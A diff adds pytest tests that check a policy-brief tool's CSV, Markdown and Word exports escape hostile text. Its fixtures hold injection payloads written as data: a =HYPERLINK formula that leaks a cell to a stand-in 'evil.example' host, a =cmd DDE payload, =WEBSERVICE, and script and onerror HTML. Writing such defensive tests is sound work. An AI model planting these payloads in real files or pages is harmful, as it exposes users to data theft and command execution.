@@ -186,3 +186,115 @@ def test_a_passage_that_only_moved_can_be_re_pinned(fake_index, corpus_copy, bri
     item = briefs.get(brief_id).items[0]
     assert item.status == "ok"
     assert briefs.store.get_document(item.doc_id).text[item.start : item.end] == item.quote
+
+
+# --- exports of hostile text ----------------------------------------------------------------------
+HOSTILE = (
+    "Hostile memo\n\n"
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the budget")\n\n'
+    "The fund <script>alert('x')</script> pays social workers in <b>every</b> district.\n"
+)
+
+
+@pytest.fixture
+def hostile_brief(fake_index, tmp_path, briefs) -> int:
+    """A brief whose title, intro, heading, notes and quoted passages begin with formulas or carry HTML."""
+    path = tmp_path / "hostile.txt"
+    path.write_text(HOSTILE, encoding="utf-8")
+    with Indexer(fake_index, FakeEmbedder(), progress=False) as indexer:
+        assert not indexer.ingest([path]).errors
+    text = briefs.store.get_document("hostile").text
+    brief_id = briefs.create("=cmd|' /C calc'!A0", "@SUM(A1:A9) <img src=x onerror=alert(1)>")
+    briefs.add_heading(brief_id, "+Budget lines")
+    formula = text.index("=HYPERLINK")
+    briefs.add_span(brief_id, "hostile", formula, text.index("\n", formula), note="-2+3 checks")
+    script = text.index("The fund")
+    briefs.add_span(brief_id, "hostile", script, text.index("district.") + 9, note="See <script>the memo</script>")
+    return brief_id
+
+
+def test_csv_export_neutralises_cells_that_would_start_a_formula(briefs, hostile_brief):
+    data = export_brief(briefs.get(hostile_brief), briefs.store, "csv").decode()
+    rows = list(csv.DictReader(io.StringIO(data)))
+    assert [row["heading"] for row in rows] == ["'+Budget lines", "'+Budget lines"]
+    assert rows[0]["quote"].startswith("'=HYPERLINK(") and rows[0]["note"] == "'-2+3 checks"
+    assert rows[1]["quote"].startswith("The fund <script>")  # a spreadsheet shows markup as text
+    for row in rows:
+        assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())
+
+
+def test_owners_csv_neutralises_cells_that_would_start_a_formula():
+    from policykb.owners.answer import OwnersResult, to_csv
+    from policykb.store import AssignmentRow
+
+    row = AssignmentRow(
+        1, "doc", 0, 40, "=WEBSERVICE(A1)", "@MOLISA", ["+UNDP", "World Bank"], "-2030", "\t§ 4", None, "lead",
+        "\rTitle", "The ministry leads.", False,
+    )  # fmt: skip
+    [shown] = list(csv.DictReader(io.StringIO(to_csv(OwnersResult(None, None, [row])))))
+    assert (shown["task"], shown["lead"], shown["coordinating"]) == (
+        "'=WEBSERVICE(A1)",
+        "'@MOLISA",
+        "'+UNDP; World Bank",
+    )
+    assert (shown["deadline"], shown["section"], shown["document"]) == ("'-2030", "'\t§ 4", "'\rTitle")
+    assert shown["text"] == "The ministry leads." and shown["start"] == "0"
+
+
+def test_markdown_export_escapes_html_from_documents_and_users(briefs, hostile_brief):
+    text = export_brief(briefs.get(hostile_brief), briefs.store, "md").decode()
+    assert "<script>" not in text and "<img" not in text and "<b>" not in text
+    assert "> The fund &lt;script&gt;alert('x')&lt;/script&gt; pays social workers" in text
+    assert "See &lt;script&gt;the memo&lt;/script&gt;" in text and "&lt;img src=x" in text
+    assert "# =cmd|' /C calc'!A0" in text  # Markdown runs no formulas: the title stays as written
+
+
+def test_word_export_carries_hostile_text_as_text(briefs, hostile_brief, tmp_path):
+    path = tmp_path / "brief.docx"
+    path.write_bytes(export_brief(briefs.get(hostile_brief), briefs.store, "docx"))
+    paragraphs = [p.text for p in docx.Document(str(path)).paragraphs]
+    assert "=cmd|' /C calc'!A0" in paragraphs and "See <script>the memo</script>" in paragraphs
+    assert any(p.startswith("The fund <script>alert('x')</script>") for p in paragraphs)
+
+
+def test_word_export_drops_control_characters_that_a_documents_text_may_carry(fake_index, briefs, tmp_path):
+    path = tmp_path / "controls.txt"
+    path.write_text("Budget\x0b memo\n\n" + "The fund pays social workers. " * 30 + "Odd\x1f char.\n", encoding="utf-8")
+    with Indexer(fake_index, FakeEmbedder(), progress=False) as indexer:
+        assert not indexer.ingest([path]).errors
+    text = briefs.store.get_document("controls").text
+    brief_id = briefs.create("Budget")
+    briefs.add_span(brief_id, "controls", text.index("Odd"), len(text.rstrip()))
+    path.with_suffix(".docx").write_bytes(export_brief(briefs.get(brief_id), briefs.store, "docx"))
+    paragraphs = [p.text for p in docx.Document(str(path.with_suffix(".docx"))).paragraphs]
+    assert "Odd char.1" in paragraphs and any(p.startswith("1. Budget memo") for p in paragraphs)
+
+
+@pytest.mark.parametrize(
+    "change, field",
+    [
+        (lambda b, i: b.create("t" * 201), "'title'"),
+        (lambda b, i: b.create("Brief", "i" * 10_001), "'intro'"),
+        (lambda b, i: b.update(i, title="t" * 201), "'title'"),
+        (lambda b, i: b.add_heading(i, "h" * 201), "'heading'"),
+        (lambda b, i: b.add_span(i, RESOLUTION, 0, 9, note="n" * 10_001), "'note'"),
+        (lambda b, i: b.update_item(i, b.add_heading(i, "H"), heading="h" * 201), "'heading'"),
+    ],
+)
+def test_every_stored_brief_text_is_held_to_its_limit(briefs, change, field):
+    brief_id = briefs.create("Brief")
+    with pytest.raises(BadQueryError, match=f"{field}.* characters long, over the limit of"):
+        change(briefs, brief_id)
+    assert [b["title"] for b in briefs.list()] == ["Brief"]
+
+
+@pytest.mark.parametrize("text", ["bad \udced\udca0 title", "bell\x07", "form\x0cfeed"])
+def test_stored_brief_text_refuses_characters_no_text_can_carry(briefs, text):
+    with pytest.raises(BadQueryError, match="which text cannot carry"):
+        briefs.create(text)
+
+
+def test_cli_refuses_a_title_that_is_not_utf8_in_plain_words(fake_index):
+    title = b"bad \xed\xa0\x80 title".decode("utf-8", "surrogateescape")  # how Python reads such an argument
+    result = CliRunner().invoke(main, ["--data", str(fake_index.data_dir), "brief", "new", title], env=ENV)
+    assert result.exit_code != 0 and "U+DCED, which text cannot carry" in result.output
